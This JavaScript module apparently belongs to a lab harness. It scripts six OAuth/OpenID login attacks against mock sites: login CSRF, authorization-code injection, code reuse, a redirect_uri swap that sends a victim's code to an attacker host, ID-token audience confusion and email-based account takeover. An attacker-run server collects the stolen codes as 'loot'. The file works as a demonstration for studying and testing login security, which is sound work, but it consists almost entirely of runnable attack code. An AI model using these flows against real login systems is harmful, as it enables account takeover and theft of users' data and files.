// Six ways into the wrong account. Each returns whose browser should now be where, and
// one of them what happens then.
const PRINTS = 'https://prints.example';
const ME = `${PRINTS}/me`;
const ALBUM = 'https://album.example';
const SITE = 'http://localhost:3003'; // Mallory's own server, from the inside

const trap = (body) => fetch(`${SITE}/trap`, {
  method: 'PUT',
  headers: { 'Content-Type': 'application/json' },
  body: JSON.stringify(body),
});
const loot = async () => (await fetch(`${SITE}/loot`)).json();

/** Presses “Allow”. */
export const allow = (browser, url) =>
  browser.visit(url, { form: Object.fromEntries(url.searchParams), until: ME });

/** Begins a login, and stops with the answer in hand, before prints.example gets it. */
const uncalled = async (browser) =>
  (await browser.visit(`${PRINTS}/login`, { until: `${PRINTS}/callback` })).url;

/** Mallory begins a login of her own, and puts another code into its answer. */
async function inject(mallory, code) {
  const url = await uncalled(mallory);
  url.searchParams.set('code', code);
  return mallory.visit(url, { until: ME });
}

export const attacks = {
  // Ann opens a page, and is logged in as Mallory. What she uploads is Mallory's.
  csrf: async ({ ann, mallory }) => {
    await trap({ trap: (await uncalled(mallory)).href });
    await ann.visit('https://mallory.example/', { until: ME });
    const after = async () => {
      await ann.visit(`${PRINTS}/files`, { json: { name: 'passport.jpg' } });
      const { body } = await mallory.visit(`${PRINTS}/login`);
      return `Mallory finds in her account: ${body.files?.at(-1)}`;
    };
    return { browser: ann, wanted: 'Mallory', after };
  },

  // Ann's code has leaked before she used it: a log, a Referer, a shared screen.
  injection: async ({ ann, mallory }) => {
    const code = (await uncalled(ann)).searchParams.get('code');
    await inject(mallory, code);
    return { browser: mallory, wanted: 'Ann' };
  },

  // The same, after she has used it: her browser's history.
  reuse: async ({ ann, mallory }) => {
    const url = await uncalled(ann);
    await ann.visit(url, { until: ME });
    await inject(mallory, url.searchParams.get('code'));
    return { browser: mallory, wanted: 'Ann' };
  },

  // A link to the real provider that names another address for the answer.
  redirect: async ({ ann, mallory }) => {
    const { url } = await mallory.visit(`${PRINTS}/login`, { until: ALBUM });
    const mine = url.searchParams.get('state');
    url.searchParams.set('redirect_uri', `${PRINTS}.mallory.example/callback`);
    await trap({ trap: url.href });
    await ann.visit('https://mallory.example/');
    const { code = 'none' } = await loot();
    const query = new URLSearchParams({ code, state: mine, iss: ALBUM });
    await mallory.visit(`${PRINTS}/callback?${query}`, { until: ME });
    return { browser: mallory, wanted: 'Ann' };
  },

  // Ann, who knows it, plays Mallory's quiz. Its ID token is genuine, and for the quiz.
  audience: async ({ ann, mallory }) => {
    const { url } = await mallory.visit(`${PRINTS}/login`, { until: ALBUM });
    url.searchParams.set('client_id', 'quiz');
    url.searchParams.set('redirect_uri', 'https://mallory.example/quiz');
    const verifier = 'a-verifier-that-mallory-has-made-up-for-her-quiz';
    url.searchParams.set('code_challenge', await challengeOf(verifier));
    await trap({ trap: url.href, verifier });
    await ann.visit('https://mallory.example/');
    await mallory.visit(`${PRINTS}/id-token`, { json: await loot(), until: ME });
    return { browser: mallory, wanted: 'Ann' };
  },

  // Mallory signs up at the provider with Ann's address.
  email: async ({ mallory }) => {
    await mallory.visit(`${ALBUM}/login?user=mallory2`);
    const { url } = await mallory.visit(`${PRINTS}/login`, { until: ME });
    if (url.href.startsWith(ALBUM)) await allow(mallory, url);
    return { browser: mallory, wanted: 'Ann' };
  },
};

async function challengeOf(verifier) {
  const hash = await crypto.subtle.digest('SHA-256', Buffer.from(verifier));
  return Buffer.from(hash).toString('base64url');
}
